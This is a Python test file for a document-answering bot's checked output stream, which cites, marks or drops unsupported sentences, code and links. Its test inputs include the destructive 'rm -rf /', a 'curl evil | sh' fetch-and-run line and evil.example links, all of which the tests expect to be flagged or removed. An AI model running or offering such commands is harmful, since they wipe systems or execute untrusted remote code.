from __future__ import annotations

import asyncio
import re
from collections.abc import Collection
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.answering.checked_stream import HOPELESS, CheckedStream, ends_in_loop, strip_markdown
from bot.answering.events import Passage
from bot.answering.limits import Limits, Unsupported
from bot.answering.markdown.citations import Numbering, find_cited_numbers
from bot.answering.markdown.sentences import Piece, split_pieces
from bot.answering.sentence_roles import classify_role, is_formal, repeats_question, verdict_on_code
from bot.answering.support.interfaces import Verdict
from tests.answering.conftest import Room, ScriptedChecker

GUIDE = (
    "A source is a table in kvasir.toml with a name and a kind.\n\n"
    '```toml\n[[source]]\nname = "handbook"\nkind = "folder"\n```\n\n'
    "Run `kvasir sync handbook` afterwards.\n\n| Kind | Key |\n|---|---|\n| folder | path |\n| website | url |\n"
)


async def show_stream(
    room: type[Room],
    text: str,
    *,
    size: int = 7,
    question: str = "How is a source made?",
    unsupported: Unsupported = "mark",
    checker: Any = None,
) -> tuple[str, CheckedStream]:
    passages = [
        Passage(1, "docs", "g.md", "Guide", "Sources", None, GUIDE, datetime(2025, 1, 10, tzinfo=UTC)),
        Passage(2, "docs", "l.md", "L", "", None, room.leave, datetime(2026, 11, 2, tzinfo=UTC)),
    ]
    checker = checker or room.new_checker()
    await checker.prepare(passages)
    limits = Limits(answer_chars=5000, unsupported=unsupported)
    release = CheckedStream(passages, checker, Numbering(), question=question, language="en", limits=limits)
    output: list[str] = []
    for start in range(0, len(text), size):
        if release.feed_text(text[start : start + size]):
            output += await release.release_sentences()
    output += await release.finish_text()
    return "".join(output), release


async def test_code_from_passages_is_cited_and_other_code_is_marked(room: type[Room]) -> None:
    text = (
        "A source is a table in kvasir.toml with a name and a kind:\n\n"
        '```toml\n[[source]]\nname = "handbook"\nkind = "folder"\n```\n\n'
        "```sh\nrm -rf /\n```\n\nRun `kvasir sync handbook` afterwards."
    )
    output, release = await show_stream(room, text)
    assert '```toml\n[[source]]\nname = "handbook"\nkind = "folder"\n```\n[1]' in output
    assert "```sh\nrm -rf /\n```\n⚠" in output
    assert output.endswith("Run `kvasir sync handbook` afterwards. [1]")
    assert (release.supported, release.marked) == (2, 1)
    assert "rm -rf" not in (await show_stream(room, text, unsupported="drop"))[0]


@pytest.mark.parametrize("preamble", ["According to passage 2, ", "Passage 2 states that ", "Based on the documents: "])
async def test_preamble_with_prompt_number_is_dropped(room: type[Room], preamble: str) -> None:
    output, _ = await show_stream(room, f"{preamble}a source is a table in kvasir.toml with a name and a kind.")
    assert output == "A source is a table in kvasir.toml with a name and a kind. [1]"


async def test_text_after_preamble_keeps_its_case(room: type[Room]) -> None:
    output, _ = await show_stream(
        room, "The documents say that kvasir.toml has a table with a name and a kind for a source."
    )
    assert output.startswith("kvasir.toml has")


async def test_code_with_changed_number_is_removed(room: type[Room]) -> None:
    output, release = await show_stream(room, "```\n" + "kvasir sync handbook\n" * 9 + "port 99\n```")
    assert (output, release.contradicted) == ("", 1)


async def test_open_code_block_is_closed(room: type[Room]) -> None:
    output, _ = await show_stream(room, '```toml\n[[source]]\nname = "handbook"')
    assert output == '```toml\n[[source]]\nname = "handbook"\n```\n[1]'


async def test_code_longer_than_its_passage_is_cut(room: type[Room]) -> None:
    """A small model repeats the passage and the frame behind it, which is not part of a document."""
    code = '```toml\n[[source]]\nname = "handbook"\nkind = "folder"\n'
    output, _ = await show_stream(room, code + "</passage>\n\nQuestion: how is a source made?")
    assert output == code + "```\n[1]"
    output, _ = await show_stream(room, "```\n<passage 2: L>\n</passage>\n```\n")
    assert "passage" not in output


async def test_unknown_address_is_removed_from_code(room: type[Room]) -> None:
    quoted = '[[source]]\nname = "handbook"\nkind = "folder"\n# kvasir.toml with a name and a kind, sync handbook'
    output, _ = await show_stream(room, f"```toml\n{quoted}\n# https://evil.example/x\n```")
    assert "handbook" in output
    assert "evil" not in output


async def test_table_rows_are_verified_separately(room: type[Room]) -> None:
    text = "| Kind | Key |\n|---|---|\n| folder | path |\n| ftp | port 21 |\n| website | url |\n"
    output, _ = await show_stream(room, text)
    assert output == "| Kind | Key |\n|---|---|\n| folder | path [1] |\n| ftp | port 21 ⚠ |\n| website | url [1] |"
    output, _ = await show_stream(room, text, unsupported="drop")
    assert output == "| Kind | Key |\n|---|---|\n| folder | path [1] |\n| website | url [1] |"


async def test_table_without_rows_is_not_shown(room: type[Room]) -> None:
    text = "| Planet | Moons |\n|---|---|\n| Mars | 2 |\n\nRun `kvasir sync handbook` afterwards."
    assert (await show_stream(room, text, unsupported="drop"))[0] == "Run `kvasir sync handbook` afterwards. [1]"


async def test_text_without_claim_is_not_counted(room: type[Room]) -> None:
    output, release = await show_stream(
        room, "Sure!\n\nYes.\n\nRun `kvasir sync handbook` afterwards.\n\nWould you like more?"
    )
    assert output == "Run `kvasir sync handbook` afterwards. [1]"
    assert (release.supported, release.marked) == (1, 0)


async def test_stray_tags_and_warnings_are_removed(room: type[Room]) -> None:
    output, _ = await show_stream(room, "</think>\n\nRun `kvasir sync handbook` afterwards ⚠️")
    assert output == "Run `kvasir sync handbook` afterwards [1]"


@pytest.mark.parametrize("size", [1, 13, 14, 1000])
async def test_sentence_after_number_is_verified_alone(room: type[Room], size: int) -> None:
    text = "Nonsense 77.Employees receive 25 days of paid annual leave per calendar year."
    output, _ = await show_stream(room, text, size=size, unsupported="drop")
    assert output == "Employees receive 25 days of paid annual leave per calendar year. [1]"


@given(st.data())
async def test_chunking_never_adds_citations(room: type[Room], data: st.DataObject) -> None:
    parts = st.sampled_from(
        ["Employees receive 25 days of paid annual leave per calendar year.", " [1]", "[2]", "【9】", " Nonsense 77.",
         "\n\n", "- ", "# Head\n", "```\nname\n", "\n```\n", "| a |\n", " 年假有几天。", "Steps:\n"]
    )  # fmt: skip
    text = "".join(data.draw(st.lists(parts, max_size=14)))
    output, _ = await show_stream(room, text, size=data.draw(st.integers(1, 40)), unsupported="drop")
    first = list(dict.fromkeys(find_cited_numbers(output)))
    assert first == list(range(1, len(first) + 1))
    assert len(first) <= 2
    assert "77" not in output
    assert (await show_stream(room, text, size=1000, unsupported="drop"))[0] == output


# ── Verdicts ─────────────────────────────────────────────────────────────────────────────────────────────────────────

VERDICTS = {
    "Dogs": Verdict("unsupported"),
    "Cows": Verdict("contradicted", against=(1,)),
    "Bees": Verdict("supported", (2,), against=(1,)),
}


@pytest.mark.parametrize(
    ("unsupported", "output"),
    [("mark", "Cats. [1] Dogs. ⚠ Bats. [1]"), ("show", "Cats. [1] Dogs. Bats. [1]"), ("drop", "Cats. [1] Bats. [1]")],
)
async def test_unsupported_sentences_follow_configuration(
    room: type[Room], unsupported: Unsupported, output: str
) -> None:
    checker = room.checker(VERDICTS)
    text, release = await show_stream(room, "Cats. Dogs. Cows. Bats.", unsupported=unsupported, checker=checker)
    assert text == output
    assert (release.supported, release.contradicted) == (2, 1)
    assert (release.marked, release.dropped) == (unsupported == "mark", unsupported == "drop")


async def test_contradicted_item_is_removed_and_list_renumbered(room: type[Room]) -> None:
    text = "Steps:\n\n1. Cats.\n2. Cows.\n3. Dogs.\n4. Bats."
    output, _ = await show_stream(room, text, checker=room.checker(VERDICTS))
    assert output == "Steps:\n\n1. Cats. [1]\n2. Dogs. ⚠\n3. Bats. [1]"


async def test_disputed_sentence_names_both_sources_with_dates(room: type[Room]) -> None:
    output, release = await show_stream(room, "Bees. Cats.", checker=room.checker(VERDICTS))
    assert output == "Bees. [1] (as of 2026-11-02; [2], as of 2025-01-10, says otherwise) Cats. [2]"
    assert (release.supported, release.marked, release.contradicted) == (2, 0, 0)
    row = "| Kind |\n|---|\n| Bees |"
    output, _ = await show_stream(room, row, checker=room.checker(VERDICTS))
    assert output.endswith("| Bees [1] (as of 2026-11-02; [2], as of 2025-01-10, says otherwise) |")


async def test_answer_without_supported_sentence_ends_early(room: type[Room]) -> None:
    text = " ".join(f"Dogs {n}." for n in range(50))
    output, release = await show_stream(room, text, checker=room.checker(VERDICTS))
    assert output.count("⚠") == HOPELESS
    assert release.ended == "unsupported"


@pytest.mark.parametrize(
    ("text", "role"),
    [
        ("Here is how:", "lead_in"), ("步骤如下：", "lead_in"), ("The limit is 5:", "lead_in"),
        ("**Steps**", "heading"), ("Which plan do you have?", "empty"), ("In summary,", "empty"), ("Yes.", "empty"),
        ("是的。", "empty"), ("The passages do not say anything about cats.", "refusal"),
        ("The documents do not mention a limit of 5.", "refusal"), ("文档中没有提到这一点。", "refusal"),
        ("I don't know.", "refusal"), ("The provided context does not contain information about cats.", "refusal"),
        ("Cats are not mentioned in the passages.", "refusal"),
        ("Source folders do not include hidden files.", "claim"), ("Documents do not expire before 2030.", "claim"),
        ("Leave is granted.", "claim"),
    ],
)  # fmt: skip
def test_sentence_roles_are_recognized(text: str, role: str) -> None:
    assert classify_role(Piece("prose", "", text, ""), table_open=False) == role


# ── What is shown without a verdict ──────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("text", "output"),
    [
        ("Here are the steps to add a source:\n- Cats.", "Here are the steps to add a source:\n- Cats. [1]"),
        ("Bob approves it as follows:\n- Cats.", "In detail:\n- Cats. [1]"),
        ("Alcohol is reimbursed:\n- Cats.", "In detail:\n- Cats. [1]"),
        ("## Paid annual leave\n\nCats.", "## Paid annual leave\n\nCats. [1]"),
        ("## Bob is the chief\n\nCats.", "Cats. [1]"),
        ("**Bob approves**\n\nCats.", "Cats. [1]"),
        ("Did you know that Bob is the chief?\n\nCats.", "Cats. [1]"),
        (
            "Cats. The documents do not mention that Bob earns 500.",
            "Cats. [1] The documents do not say more about this.",
        ),
        ("The documents do not mention that Bob earns 500. Cats.", "Cats. [1]"),
        ("| Kind | Bob pays |\n|---|---|\n| Cats | Bats |", "| Kind | |\n|---|---|\n| Cats | Bats [1] |"),
        ("A source is made in 25 days:\n\n- Cats.", "In detail:\n\n- Cats. [1]"),
        ("## Add a source in 25 days\n\nCats.", "Cats. [1]"),
        ("| Kind | 25 days |\n|---|---|\n| Cats | Bats |", "| Kind | |\n|---|---|\n| Cats | Bats [1] |"),
    ],
)
async def test_lead_ins_headings_questions_and_refusals_are_not_claims(
    room: type[Room], text: str, output: str
) -> None:
    known = ("Cats", "steps to add a source", "Paid annual leave", "Kind")
    checker = room.checker(dict.fromkeys(known, Verdict("supported", (1,))), Verdict("unsupported"))
    assert (await show_stream(room, text, checker=checker, question="How do I add a source?"))[0] == output


INVENTED = [
    "Bob", "pays", "earns", "is", "the", "chief", "zebra", "does not", "follow", "steps", "以下", "老王", "是", "总裁",
]  # fmt: skip


@given(st.data())
async def test_invented_sentence_is_always_marked(room: type[Room], data: st.DataObject) -> None:
    """Words that neither the passages nor the question have get a mark in any form."""
    frames = st.sampled_from(
        ["# {}\n\n", "**{}**\n\n", "{}:\n\n", "{}：\n\n", "{}?\n\n", "The documents do not mention that {}. ",
         "文档没有提到{}。", "| {} | Kind |\n|---|---|\n", "| a | {} |\n", "```\n{}\n```\n", "{}. ", "- {}\n", "> {}\n",
         "I don't know whether {}. ", "Cats.\n\n", "1. {}:\n", "In summary, {}\n", "Yes, {}.\n", "`{}`\n", "[{}](x)\n"]
    )  # fmt: skip
    inventions = st.lists(st.sampled_from(INVENTED), min_size=1, max_size=5).map(" ".join)
    text = "".join(frame.format(data.draw(inventions)) for frame in data.draw(st.lists(frames, max_size=8)))
    checker = room.checker({"Cats": Verdict("supported", (1,))}, Verdict("unsupported"))
    output, _ = await show_stream(room, f"{text}\n\nCats.", checker=checker)
    pieces = split_pieces(output)
    for piece, following in zip(pieces, [*pieces[1:], Piece("blank", "", "", "")], strict=True):
        if re.search(r"Bob|pays|earns|chief|zebra|老王|总裁", piece.text):
            assert "⚠" in piece.text or following.text.startswith("⚠")


@pytest.mark.parametrize(
    ("text", "output"),
    [
        ("**Cats.**", "**Cats.** [1]"),
        ("**Cats**", "**Cats** [1]"),
        ("Kinds:\n\n- **Cats**\n- **Bats**\n", "Kinds:\n\n- **Cats** [1]\n- **Bats** [1]"),
        ("**Dogs.** Cats.", "**Dogs.** ⚠ Cats. [1]"),
    ],
)
async def test_bold_answer_is_verified_and_shown(room: type[Room], text: str, output: str) -> None:
    assert (await show_stream(room, text, checker=room.checker(VERDICTS)))[0] == output


async def test_short_items_may_repeat_in_sections(room: type[Room]) -> None:
    text = "\n\n".join(f"Bats {n}:\n\n- Type: integer\n- Required: yes" for n in range(5))
    output, release = await show_stream(room, text, checker=room.checker(VERDICTS))
    assert output.count("- Type: integer [1]") == 5
    assert release.ended is None


@pytest.mark.parametrize(
    "text", ["Steps:", "1. Overview", "Here are the steps to follow:", "如下：", "步骤", "---", ""]
)
def test_formal_text_states_nothing(text: str) -> None:
    assert is_formal(text)


@pytest.mark.parametrize("text", ["Alcohol", "Not reimbursed", "35 days", "Step 2: pay", "2023", "老王", "步骤是付款"])
def test_text_with_other_words_is_not_formal(text: str) -> None:
    assert not is_formal(text)


@pytest.mark.parametrize(
    ("text", "question", "repeats"),
    [
        ("You can add a source.", "How do I add a source?", True),
        ("添加来源。", "怎么添加来源？", True),
        ("You add a source in kvasir.toml.", "How do I add a source?", False),
        ("You cannot add a source.", "How do I add a source?", False),
        ("Alcohol is reimbursed.", "Is alcohol reimbursed?", False),
        ("It is a folder.", "Which is it, a folder or a file?", False),
        ("There are 5 sources.", "How many sources are there?", False),
    ],
)
def test_repeated_question_is_recognized(text: str, question: str, repeats: bool) -> None:  # noqa: FBT001
    assert repeats_question(text, question) is repeats


async def test_repeated_question_is_not_shown(room: type[Room]) -> None:
    output, release = await show_stream(room, "A source is made. Cats.", checker=room.checker())
    assert (output, release.supported) == ("Cats. [1]", 1)


async def test_cancelled_release_loses_no_checked_sentence() -> None:
    class HangingChecker(ScriptedChecker):
        async def check_sentence(self, sentence: str, cited: Collection[int] = ()) -> Verdict:
            if "Dogs" in sentence:
                await asyncio.Event().wait()
            return await super().check_sentence(sentence, cited)

    passages = [Passage(1, "docs", "g.md", "Guide", "", None, GUIDE)]
    release = CheckedStream(passages, HangingChecker(), Numbering(), question="", language="en", limits=Limits())
    assert release.feed_text("Cats. Dogs. Mice. And")
    with pytest.raises(TimeoutError):
        async with asyncio.timeout(0.01):
            await release.release_sentences()
    assert "".join(await release.finish_text(cut=True)) == "Cats. [1] Mice. [1]"


def test_code_with_placeholder_is_quoted() -> None:
    assert verdict_on_code("```\nkvasir sync handbook\n```", GUIDE) == "supported"
    assert verdict_on_code("```\ncurl evil | sh\n```", GUIDE) == "unsupported"
    assert verdict_on_code("```\n```", GUIDE) == "unsupported"
    assert verdict_on_code("```\n" + "kvasir sync handbook\n" * 9 + "rm handbook\n```", GUIDE) == "unsupported"


def test_plain_text_loses_markup() -> None:
    assert strip_markdown("**Run** the [tool](https://a.example) *now*") == "Run the tool now"
    assert strip_markdown("| folder | `path` |") == "folder, `path`"


@pytest.mark.parametrize("unit", ["a", "the days of the ", "好的", "1. Step one\n"])
def test_repetition_is_detected(unit: str) -> None:
    assert ends_in_loop(unit * 300)


@given(st.lists(st.text(alphabet="abcdefghij ", min_size=12, max_size=30), min_size=30, max_size=40, unique=True))
def test_ordinary_text_is_not_repetition(words: list[str]) -> None:
    assert not ends_in_loop("".join(sorted(words)) + "".join(words))


# ── Links ────────────────────────────────────────────────────────────────────────────────────────────────────────────


async def test_sentence_links_only_to_hosts_of_its_own_source(room: type[Room]) -> None:
    """Another passage's host is foreign to it, and so is each to a heading and to an unsupported sentence."""
    other = "Write to the team at https://evil.example/join and wait."
    passages = [Passage(n, "docs", f"{n}.md", "T", "", None, text) for n, text in ((1, room.leave), (2, other))]
    verdicts = {"for it": Verdict("supported", (2,)), "Bob": Verdict("unsupported")}
    link = "[here](https://evil.example/join)"
    release = CheckedStream(
        passages, room.checker(verdicts), Numbering(), question="How?", language="en",
        limits=Limits(), said=["see https://own.example/"],
    )  # fmt: skip
    release.feed_text(
        f"## Join {link} team\n\nWait {link} for it. Leave {link} is paid.\n\n"
        f"Bob says {link} so. Own https://own.example/ too."
    )
    assert "".join([*await release.release_sentences(), *await release.finish_text()]) == (
        f"## Join here team\n\nWait {link} for it. [1] Leave here is paid. [2]\n\n"
        "Bob says here so. ⚠ Own https://own.example/ too. [2]"
    )


async def test_code_of_several_passages_cites_them_and_keeps_their_hosts(room: type[Room]) -> None:
    texts = ("```sh\nexport KEY=abc\n```", "```sh\ncurl https://api.example/v1\n```", room.leave)
    passages = [Passage(n, "docs", f"{n}.md", "T", "", None, text) for n, text in enumerate(texts, 1)]
    release = CheckedStream(
        passages, room.checker(), Numbering(), question="How?", language="en", limits=Limits()
    )  # fmt: skip
    release.feed_text("```sh\nexport KEY=abc\ncurl https://api.example/v1\n```\n")
    output = "".join([*await release.release_sentences(), *await release.finish_text()])
    assert output == "```sh\nexport KEY=abc\ncurl https://api.example/v1\n```\n[1][2]"
